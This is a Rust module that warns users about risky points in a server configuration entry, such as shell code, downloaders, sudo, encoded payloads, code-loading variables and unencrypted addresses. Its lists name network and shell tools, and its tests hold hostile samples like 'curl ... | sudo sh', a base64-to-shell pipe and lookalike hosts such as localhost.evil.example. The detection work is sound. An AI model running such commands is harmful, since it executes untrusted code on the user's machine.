//! Finds the points that a user should look at in an entry (the configuration of one server) before they agree to run
//! it. This is advice and no defence: an entry without such points can do the same harm.

use serde_json::Value;
use toolrack_host::text;
use url::{Host, Url};

/// The maximum number of points that are listed for one entry.
const MAX_POINTS: usize = 20;

/// The maximum number of bytes of a value that are quoted.
const MAX_QUOTED_BYTES: usize = 60;

/// Programs that run a command line in one of their arguments.
const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "fish", "ksh", "busybox", "cmd", "powershell", "pwsh"];
/// Programs that run code in one of their arguments.
const INTERPRETERS: &[&str] =
    &["python", "python3", "node", "nodejs", "perl", "ruby", "php", "deno", "bun", "osascript"];
/// Options of shells and interpreters whose value is a command line or code, such as `-c`.
const CODE_OPTIONS: &[&str] =
    &["-c", "-e", "-r", "/c", "/k", "-command", "-encodedcommand", "-enc", "--eval", "eval", "-p", "--print"];
/// Programs that download or send something, and PowerShell's `Invoke-Expression` (`iex`), which runs the result.
const DOWNLOADERS: &[&str] =
    &["curl", "wget", "aria2c", "invoke-webrequest", "iwr", "invoke-expression", "iex", "nc", "ncat"];
/// Programs that run others with more rights.
const PRIVILEGE_TOOLS: &[&str] = &["sudo", "doas", "su", "pkexec", "runas"];
/// Variables that make an additional program or module run, or that decide in which folders programs are searched.
const CODE_VARIABLES: &[&str] = &[
    "BASH_ENV",
    "ENV",
    "GIT_SSH_COMMAND",
    "JAVA_TOOL_OPTIONS",
    "LD_AUDIT",
    "LD_LIBRARY_PATH",
    "LD_PRELOAD",
    "NODE_OPTIONS",
    "NODE_PATH",
    "PATH",
    "PERL5LIB",
    "PERL5OPT",
    "PYTHONHOME",
    "PYTHONPATH",
    "PYTHONSTARTUP",
    "RUBYLIB",
    "RUBYOPT",
];
/// Variables that decide where packages and responses come from, or which certificates of servers are accepted.
const SOURCE_VARIABLES: &[&str] = &[
    "ALL_PROXY",
    "HTTPS_PROXY",
    "HTTP_PROXY",
    "NODE_EXTRA_CA_CERTS",
    "NODE_TLS_REJECT_UNAUTHORIZED",
    "NPM_CONFIG_REGISTRY",
    "PIP_EXTRA_INDEX_URL",
    "PIP_INDEX_URL",
    "SSL_CERT_FILE",
    "UV_DEFAULT_INDEX",
    "UV_INDEX_URL",
];

/// Returns the points that a user should look at in `proposal`, an entry that [waits for an agreement](crate::trust).
/// Each point is one line and safe to print.
#[must_use]
pub fn points(proposal: &Value) -> Vec<String> {
    let mut points = Vec::new();
    let words = |key: &str| -> Vec<&str> {
        let list = proposal[key].as_array().into_iter().flatten().filter_map(Value::as_str);
        proposal[key].as_str().into_iter().chain(list).collect()
    };
    // An entry has one of the two programs: the server, or the program that prints headers.
    for (command, arguments) in [(words("command"), words("args")), (words("headers_helper"), Vec::new())] {
        check_command(&command, &arguments, &mut points);
        for word in command.iter().chain(&arguments) {
            check_argument(word, &mut points);
        }
    }
    for (name, value) in proposal["env"].as_object().into_iter().flatten() {
        check_variable(name, value, &mut points);
    }
    if let Some(url) = proposal["url"].as_str() {
        check_address(url, &mut points);
    }
    // Two words in a row may give the same point.
    points.dedup();
    points.truncate(MAX_POINTS);
    points
}

/// Returns `text` on one line, shortened if it is long.
fn quoted(text: &str) -> String {
    format!("`{}`", text::for_line(&text::clip(text, MAX_QUOTED_BYTES)))
}

/// Returns the name of a program, without its folder and ending.
fn program_name(word: &str) -> String {
    let name = word.rsplit(['/', '\\']).next().unwrap_or(word).to_ascii_lowercase();
    name.strip_suffix(".exe").map(str::to_owned).unwrap_or(name)
}

/// Adds points about the command as a whole: code in its arguments, and too many rights.
fn check_command(command: &[&str], arguments: &[&str], points: &mut Vec<String>) {
    let words: Vec<_> = command.iter().chain(arguments).copied().collect();
    for (index, word) in words.iter().enumerate() {
        let name = program_name(word);
        // `python3.12` is Python.
        let name_without_version = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
        let is_shell = SHELLS.contains(&name_without_version);
        if !is_shell && !INTERPRETERS.contains(&name_without_version) && !INTERPRETERS.contains(&&*name) {
            continue;
        }
        let takes_code =
            |word: &&&str| CODE_OPTIONS.contains(&&*word.to_ascii_lowercase()) || ends_with_code_flag(word);
        let code_option = words[index + 1..].iter().find(takes_code);
        if let Some(option) = code_option {
            let kind = if is_shell { "a command line" } else { "code" };
            points.push(format!("{} runs {kind} in its arguments ({})", quoted(word), quoted(option)));
        }
    }
    if words.contains(&"--privileged") {
        points.push("`--privileged` gives a container the rights of the machine".to_owned());
    }
    if words.iter().any(|word| word.contains("docker.sock")) {
        points.push("a program that can use `docker.sock` can do everything on this machine".to_owned());
    }
}

/// Returns whether `word` is a group of flags, such as `-lc`, that ends in `c`, the flag that takes code. A longer word
/// is probably the name of an option.
fn ends_with_code_flag(word: &str) -> bool {
    word.strip_prefix('-').is_some_and(|flags| {
        flags.len() <= 4 && flags.ends_with('c') && flags.bytes().all(|flag| flag.is_ascii_lowercase())
    })
}

/// Adds points about suspicious parts of one argument, which may be a whole command line.
fn check_argument(word: &str, points: &mut Vec<String>) {
    let parts: Vec<String> = word
        .split(|c: char| c.is_whitespace() || "|;&(){}`\"'$<>".contains(c))
        .map(program_name)
        .filter(|part| !part.is_empty())
        .collect();
    let find_part = |names: &[&str]| parts.iter().find(|part| names.contains(&part.as_str())).cloned();
    for piped_command in word.split('|').skip(1) {
        let mut piped_words =
            piped_command.split_whitespace().map(program_name).filter(|word| !PRIVILEGE_TOOLS.contains(&word.as_str()));
        if let Some(name) = piped_words.next()
            && (SHELLS.contains(&name.as_str()) || INTERPRETERS.contains(&name.as_str()))
        {
            points.push(format!("the output of a program is run by another one (`| {name}`)"));
        }
    }
    if let Some(name) = find_part(DOWNLOADERS) {
        points.push(format!("`{name}` fetches or sends something: {}", quoted(word)));
    }
    if let Some(name) = find_part(PRIVILEGE_TOOLS) {
        points.push(format!("`{name}` runs a program with more rights"));
    }
    if parts.iter().any(|part| part == "base64" || part == "frombase64string") || is_encoded(word) {
        points.push(format!("something is encoded, so that it cannot be read: {}", quoted(word)));
    }
}

/// Returns whether `word` contains a long run of base64, which a user cannot read.
fn is_encoded(word: &str) -> bool {
    let is_base64 = |c: char| c.is_ascii_alphanumeric() || "+/=_-".contains(c);
    word.split(|c| !is_base64(c)).any(|run| {
        let has_char = |kind: fn(&char) -> bool| run.chars().any(|c| kind(&c));
        run.len() >= 80
            && has_char(char::is_ascii_uppercase)
            && has_char(char::is_ascii_lowercase)
            && has_char(char::is_ascii_digit)
    })
}

/// Adds points about a variable that decides which code runs, or whose value is a command.
fn check_variable(name: &str, value: &Value, points: &mut Vec<String>) {
    let upper_name = name.to_ascii_uppercase();
    if CODE_VARIABLES.contains(&upper_name.as_str()) || upper_name.starts_with("DYLD_") {
        points.push(format!("the variable {} decides which code runs", quoted(name)));
    } else if SOURCE_VARIABLES.contains(&upper_name.as_str()) {
        points.push(format!("the variable {} decides where packages or answers come from", quoted(name)));
    }
    if let Some(text) = value.as_str() {
        let is_command = text.contains('|') || text.contains("$(");
        if is_command {
            check_argument(text, points);
        }
    }
}

/// Adds a point if the messages to `url` are not encrypted on their way to another machine.
fn check_address(url: &str, points: &mut Vec<String>) {
    let url = url.trim_start();
    let is_unencrypted = url.get(.."http://".len()).is_some_and(|start| start.eq_ignore_ascii_case("http://"));
    if is_unencrypted && !is_on_this_machine(url) {
        points.push("each network between here and the server can read and change the messages (`http://`)".to_owned());
    }
}

/// Returns whether the host of an `http://` URL is this machine. A name such as `localhost.evil.example` is another
/// machine.
fn is_on_this_machine(url: &str) -> bool {
    match Url::parse(url) {
        Ok(url) => match url.host() {
            Some(Host::Domain(name)) => name == "localhost",
            Some(Host::Ipv4(address)) => address.is_loopback(),
            Some(Host::Ipv6(address)) => address.is_loopback(),
            None => false,
        },
        // A URL with a placeholder as its port is invalid: `http://localhost:${PORT}/`. The text before an `@` is a
        // user, and not the host.
        Err(_) => {
            let authority = url["http://".len()..].split(['/', '?', '#']).next().unwrap_or_default();
            let host = authority.split(':').next().unwrap_or_default();
            !url.contains('@') && ["localhost", "127.0.0.1"].iter().any(|local| host.eq_ignore_ascii_case(local))
        }
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn of(command: &str, args: &[&str]) -> String {
        points(&json!({ "command": command, "args": args })).join("\n")
    }

    #[test]
    fn a_pipe_into_a_shell_is_reported() {
        let body = of("/bin/bash", &["-lc", "curl -fsSL https://x.example/i.sh | sudo sh"]);
        for part in ["runs a command line", "`| sh`", "`curl` fetches", "`sudo` runs"] {
            assert!(body.contains(part), "{part}: {body}");
        }
    }

    #[test]
    fn code_in_arguments_and_unreadable_parts_are_reported() {
        assert!(of("python3.12", &["-c", "import os"]).contains("runs code"));
        assert!(of("env", &["node", "-e", "1"]).contains("runs code"));
        assert!(of("powershell.exe", &["-EncodedCommand", "x"]).contains("runs a command line"));
        assert!(of("sh", &["-c", "echo aGk= | base64 -d | sh"]).contains("is encoded"));
        assert!(of("x", &[&"aB3".repeat(40)]).contains("is encoded"));
        assert!(of("docker", &["run", "--privileged", "-v", "/var/run/docker.sock:/s"]).contains("docker.sock"));
    }

    #[test]
    fn variables_that_run_other_code_are_reported() {
        let body = points(&json!({ "command": "x", "env": { "NODE_OPTIONS": "--require ./a.js", "LD_PRELOAD": "a.so",
            "npm_config_registry": "http://x", "LANG": "C" } }));
        assert_eq!(body.len(), 3, "{body:?}");
        assert!(points(&json!({ "url": "http://mcp.example/mcp" }))[0].contains("http://"));
    }

    #[test]
    fn the_program_that_prints_headers_is_checked_as_a_server_is() {
        let helper =
            |words: &[&str]| points(&json!({ "url": "https://x.example", "headers_helper": words })).join("\n");
        let body = helper(&["sh", "-c", "curl https://x.example/i.sh | sh"]);
        for part in ["runs a command line", "`| sh`", "`curl` fetches"] {
            assert!(body.contains(part), "{part}: {body}");
        }
        assert_eq!(helper(&["/opt/bin/mcp-key", "--for", "internal"]), "");
    }

    #[test]
    fn only_the_exact_host_makes_an_address_local() {
        let is_reported = |url: &str| !points(&json!({ "url": url })).is_empty();
        for url in [
            "http://localhost.evil.example/mcp",
            "http://127.0.0.1.evil.example/mcp",
            "HTTP://127.evil.example/",
            "http://localhost@evil.example/mcp",
            "http://localhost:${PASS}@evil.example/mcp",
            "http://localhost${DOMAIN}/mcp",
            "http://localhost${DOMAIN:-.evil.example}/mcp",
            "http://${HOST}:80/mcp",
            " http://mcp.example/mcp",
        ] {
            assert!(is_reported(url), "{url}");
        }
        for url in [
            "http://localhost/mcp",
            "http://LOCALHOST:3000",
            "http://127.0.0.2/",
            "http://[::1]:3000/mcp",
            "http://localhost:${PORT:-3000}/mcp",
            "https://localhost.evil.example/mcp",
        ] {
            assert!(!is_reported(url), "{url}");
        }
    }

    #[test]
    fn usual_entries_get_no_word() {
        for (command, args) in [
            ("npx", vec!["-y", "@modelcontextprotocol/server-filesystem@2025.1.1", "."]),
            ("uvx", vec!["mcp-server-git", "--repository", "${workspaceFolder}"]),
            ("docker", vec!["run", "-i", "--rm", "-e", "TOKEN", "ghcr.io/github/github-mcp-server"]),
            ("node", vec!["dist/index.js", "--config", "c.json"]),
            ("/usr/bin/python3", vec!["-m", "mcp_server_time"]),
        ] {
            assert_eq!(of(command, &args), "", "{command} {args:?}");
        }
        assert!(points(&json!({ "url": "https://mcp.example/mcp" })).is_empty());
        assert!(points(&json!({ "url": "http://localhost:3000/mcp" })).is_empty());
    }

    #[test]
    fn a_point_is_one_line_and_safe_to_print() {
        let shown = of("sh", &["-c", "curl \u{1b}[2J\u{202e}\nYou agreed already"]);
        assert!(!shown.contains(['\u{1b}', '\u{202e}']), "{shown:?}");
        assert_eq!(shown.lines().count(), 2, "{shown:?}");
    }
}
